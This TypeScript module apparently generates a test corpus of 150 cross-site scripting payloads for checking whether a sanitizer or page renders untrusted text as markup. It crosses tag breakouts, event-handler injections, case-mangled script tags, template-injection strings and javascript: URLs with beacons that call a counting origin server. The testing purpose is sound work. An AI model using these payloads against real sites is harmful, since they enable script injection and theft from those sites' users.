/** Texts that would run, load or leave the page if anything took them for markup; each says in its own way that it got through. */

/** What each of them would do, with a number to tell them apart; `origin` is a server that counts who asks it. */
const deeds = (origin: string, n: number): readonly string[] => [
  `globalThis.hit=${n}`,
  `alert(${n})`,
  `fetch('${origin}/f${n}')`,
  `new Image().src='${origin}/i${n}'`,
  `location='${origin}/l${n}'`,
];

/** Ways in, around a deed and an address. */
const ways: readonly ((deed: string, address: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `<img/src/onerror="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<marquee onstart="${deed}">`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `' onmouseover='${deed}' x='`,
  (deed) => `" style="animation:x" onanimationstart="${deed}" x="`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}`,
  (_deed, address) => `<iframe src=${address}></iframe>`,
  (_deed, address) => `<link rel=stylesheet href=${address}>`,
  (_deed, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_deed, address) => `<style>@import '${address}';*{background:url(${address})}</style>`,
  (_deed, address) => `<object data=${address}></object><base href=${address}>`,
];

/** 150 of them. */
export const xssPayloads = (origin: string): readonly string[] =>
  ways.flatMap((way, at) => deeds(origin, at).map((deed, which) => way(deed, `${origin}/a${at}-${which}`)));
